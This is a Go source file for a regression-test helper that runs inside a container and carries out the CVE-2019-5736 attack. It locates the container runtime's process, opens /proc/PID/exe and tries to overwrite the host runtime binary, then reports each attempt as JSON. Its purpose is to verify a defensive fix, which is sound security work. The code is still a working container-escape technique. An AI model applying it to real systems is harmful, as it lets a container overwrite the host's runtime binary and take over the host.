// Command cvehelper is the attacker side of the CVE regression tests: a static binary copied into
// a container's rootfs and run there (by the init or by exec). It reports what it managed to do as
// JSON in a file the test reads from the host.
//
//	cvehelper exe-attack -fifo PATH -out PATH [-pre PID]
//
// exe-attack is CVE-2019-5736: it finds the process with the argument --log=PATH (the runtime
// binary, run inside the container through a "#!/proc/self/exe --log=PATH" script and blocked
// opening the fifo PATH for its log), opens /proc/PID/exe for writing, and with O_PATH; it then lets the process
// go on (opens the fifo), waits for it to exit and re-opens the O_PATH fd for writing through
// /proc/self/fd/N. Any successful open is reported and the file is then overwritten at offset 0,
// so the test also sees it in the binary's hash. With -pre it first tries /proc/PRE/exe (the
// container init before start, still a copy of the runtime) and writes OUT.ready afterwards.
package main

import (
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: cvehelper exe-attack ...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "exe-attack":
		exeAttack(os.Args[2:])
	default:
		fmt.Fprintf(os.Stderr, "cvehelper: unknown command %q\n", os.Args[1])
		os.Exit(2)
	}
}

// errName is "ok" for nil, the errno name (EROFS) for an errno, the message otherwise.
func errName(err error) string {
	if err == nil {
		return "ok"
	}
	var e unix.Errno
	if errors.As(err, &e) {
		return unix.ErrnoName(e)
	}
	return err.Error()
}

// Attack is the JSON report of exe-attack.
type Attack struct {
	PreOpen        string `json:"pre_open,omitempty"`  // O_PATH of /proc/PRE/exe before start
	PreWrite       string `json:"pre_write,omitempty"` // O_WRONLY of /proc/PRE/exe before start
	TargetPid      int    `json:"target_pid"`          // the process running the runtime binary
	ExeLink        string `json:"exe_link"`            // readlink /proc/PID/exe
	ExeIno         uint64 `json:"exe_ino"`             // inode of the O_PATH fd
	ExeDev         uint64 `json:"exe_dev"`             // device of the O_PATH fd
	OPath          string `json:"opath"`               // O_PATH open of /proc/PID/exe
	WriteRunning   string `json:"write_running"`       // O_WRONLY of /proc/PID/exe while it runs
	RDWRRunning    string `json:"rdwr_running"`        // O_RDWR of /proc/PID/exe while it runs
	ReopenRunning  string `json:"reopen_running"`      // O_WRONLY of /proc/self/fd/N while it runs
	Exited         bool   `json:"exited"`              // the target exited
	ReopenExited   string `json:"reopen_exited"`       // O_WRONLY of /proc/self/fd/N after exit
	ReopenExitedRW string `json:"reopen_exited_rdwr"`  // O_RDWR of /proc/self/fd/N after exit
	Wrote          string `json:"wrote,omitempty"`     // what writing through an opened fd did
	Error          string `json:"error,omitempty"`     // the helper could not run the attack
}

func exeAttack(args []string) {
	fs := flag.NewFlagSet("exe-attack", flag.ExitOnError)
	fifo := fs.String("fifo", "", "fifo the target blocks on")
	out := fs.String("out", "", "result file")
	pre := fs.Int("pre", 0, "pid of the not yet started container init")
	timeout := fs.Duration("timeout", 20*time.Second, "how long to wait for the target")
	fs.Parse(args)
	var r Attack
	defer func() { writeJSON(*out, &r) }()
	if *pre > 0 {
		p := fmt.Sprintf("/proc/%d/exe", *pre)
		fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
		r.PreOpen = errName(err)
		if err == nil {
			unix.Close(fd)
		}
		r.PreWrite = tryWrite(p, unix.O_WRONLY, &r)
		if err := os.WriteFile(*out+".ready", []byte("1"), 0o644); err != nil {
			r.Error = err.Error()
			return
		}
	}
	deadline := time.Now().Add(*timeout)
	for r.TargetPid == 0 {
		r.TargetPid = find("--log=" + *fifo)
		if r.TargetPid != 0 {
			break
		}
		if time.Now().After(deadline) {
			r.Error = "no process with the argument --log=" + *fifo
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	exe := fmt.Sprintf("/proc/%d/exe", r.TargetPid)
	r.ExeLink, _ = os.Readlink(exe)
	fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
	r.OPath = errName(err)
	if err != nil {
		return
	}
	var st unix.Stat_t
	if unix.Fstat(fd, &st) == nil {
		r.ExeIno, r.ExeDev = st.Ino, st.Dev
	}
	self := fmt.Sprintf("/proc/self/fd/%d", fd)
	r.WriteRunning = tryWrite(exe, unix.O_WRONLY, &r)
	r.RDWRRunning = tryWrite(exe, unix.O_RDWR, &r)
	r.ReopenRunning = tryWrite(self, unix.O_WRONLY, &r)
	// Let the target go on: it is blocked opening the fifo for writing.
	ff, err := unix.Open(*fifo, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		r.Error = "open fifo: " + err.Error()
		return
	}
	defer unix.Close(ff)
	for time.Now().Before(deadline) {
		if gone(r.TargetPid) {
			r.Exited = true
			break
		}
		buf := make([]byte, 4096)
		unix.Read(ff, buf) // drain what it logs
		time.Sleep(2 * time.Millisecond)
	}
	if !r.Exited {
		r.Error = "target did not exit"
		return
	}
	// ETXTBSY only says that some process still executes the file (e.g. a "berth-runtime
	// start" that has not exited yet): keep trying for a while, as a real attacker would.
	for end := time.Now().Add(3 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		r.ReopenExited = tryWrite(self, unix.O_WRONLY, &r)
		r.ReopenExitedRW = tryWrite(self, unix.O_RDWR, &r)
		if (r.ReopenExited != "ETXTBSY" && r.ReopenExitedRW != "ETXTBSY") || time.Now().After(end) {
			break
		}
	}
}

// tryWrite opens p with flags; if that works (the runtime binary is writable) it overwrites the
// start of the file, which the test notices in the binary's hash.
func tryWrite(p string, flags int, r *Attack) string {
	fd, err := unix.Open(p, flags|unix.O_CLOEXEC, 0)
	if err != nil {
		return errName(err)
	}
	defer unix.Close(fd)
	_, werr := unix.Pwrite(fd, []byte("#!/bin/sh\necho CVE-2019-5736 overwrote the runtime\n"), 0)
	r.Wrote += fmt.Sprintf("%s: %s; ", p, errName(werr))
	return "ok"
}

// find returns a process with the argument arg (not this one).
func find(arg string) int {
	ents, _ := os.ReadDir("/proc")
	self := os.Getpid()
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == self {
			continue
		}
		cmd, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err != nil {
			continue
		}
		for _, a := range strings.Split(string(cmd), "\x00") {
			if a == arg {
				return pid
			}
		}
	}
	return 0
}

// gone reports whether pid has exited (reaped, or a zombie: its mm and exe are released).
func gone(pid int) bool {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return true
	}
	s := string(data)
	i := strings.LastIndexByte(s, ')')
	return i < 0 || i+2 >= len(s) || s[i+2] == 'Z' || s[i+2] == 'X'
}

func writeJSON(p string, v any) {
	data, _ := json.Marshal(v)
	tmp := p + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err == nil {
		os.Rename(tmp, p)
	}
}
